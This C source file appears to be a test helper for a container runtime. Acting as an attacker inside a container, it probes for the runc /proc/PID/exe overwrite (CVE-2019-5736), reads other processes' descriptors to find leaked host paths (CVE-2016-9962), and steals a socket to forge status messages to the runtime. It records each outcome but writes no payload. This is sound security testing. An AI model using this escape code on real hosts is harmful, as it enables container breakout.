/*
 * An attacker inside a container, too fast for a shell: looks at every process that appears beside it.
 *
 *   catch exe OUT   opens /proc/PID/exe of a program that is not the container's own and, once that process
 *                   has ended, tries to open it for writing (CVE-2019-5736); OUT gets "written" or the error
 *   catch fds OUT   reads where the descriptors of others lead (CVE-2016-9962); OUT gets each path outside
 *                   the container's own files
 *   catch say OUT PID   takes the socket by which others report to the runtime, and says there that the process
 *                   is PID, a number of the host's, and has failed; OUT gets "said"
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void say(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd >= 0) {
		dprintf(fd, "%s\n", text);
		close(fd);
	}
}

static int is_ours(const char *link)
{
	return strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/attack/", 8) == 0;
}

static int try_to_write(int file, const char *out)
{
	char path[64];
	time_t end = time(NULL) + 2;
	int fd, error = 0;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	do {
		/* with O_TRUNC the mount is asked before whether the program is still running */
		fd = open(path, O_WRONLY | O_TRUNC);
		error = errno;
	} while (fd < 0 && error == ETXTBSY && time(NULL) < end);
	say(out, fd >= 0 ? "written" : strerror(error));
	return 1;
}

static int look_at_exe(const char *pid, const char *out)
{
	char path[64], link[4096];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n <= 0)
		return 0;
	link[n] = 0;
	if (is_ours(link))
		return 0;
	int fd = open(path, O_RDONLY);
	return fd < 0 ? 0 : try_to_write(fd, out);
}

static void look_at_fds(const char *pid, const char *out)
{
	char path[64], link[4096];
	for (int i = 0; i < 32; i++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, i);
		ssize_t n = readlink(path, link, sizeof(link) - 1);
		if (n <= 0)
			continue;
		link[n] = 0;
		if (link[0] == '/' && strcmp(link, "/dev/null") != 0 &&
			strncmp(link, "/proc/", 6) != 0)
			say(out, link);
	}
}

static int is_program_of_others(const char *pid)
{
	char path[64], link[4096];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n <= 0)
		return 0;
	link[n] = 0;
	return !is_ours(link);
}

/* Stopped, it has all the time that is needed. The message is a struct report of src/runtime/report.h. */
static void speak_for(const char *pid, int victim, const char *out)
{
	struct {
		unsigned int type, kind;
		int sys, value;
		char text[4];
	} named = {2, 0, 0, victim, ""}, failed = {1, 0, 0, 0, "x"};
	if (!is_program_of_others(pid) || kill(atoi(pid), SIGSTOP) < 0)
		return;
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);
	for (int i = 3; i < 32 && is_program_of_others(pid); i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
		/* not the null device and the like */
		if (fd >= 0 && send(fd, &named, sizeof(named), 0) == sizeof(named) &&
			send(fd, &failed, sizeof(failed), 0) == sizeof(failed))
			say(out, "said");
		close(fd);
	}
	close(pidfd);
	kill(atoi(pid), SIGKILL);
}

int main(int argc, char **argv)
{
	if (argc != 3 && (argc != 4 || strcmp(argv[1], "say") != 0))
		return 2;
	int exe = strcmp(argv[1], "exe") == 0, me = getpid();
	say(argv[2], "watching");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		while (proc && (e = readdir(proc))) {
			if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == me)
				continue;
			if (exe && look_at_exe(e->d_name, argv[2]))
				return 0;
			if (argc == 4)
				speak_for(e->d_name, atoi(argv[3]), argv[2]);
			else if (!exe)
				look_at_fds(e->d_name, argv[2]);
		}
		if (proc)
			closedir(proc);
	}
}
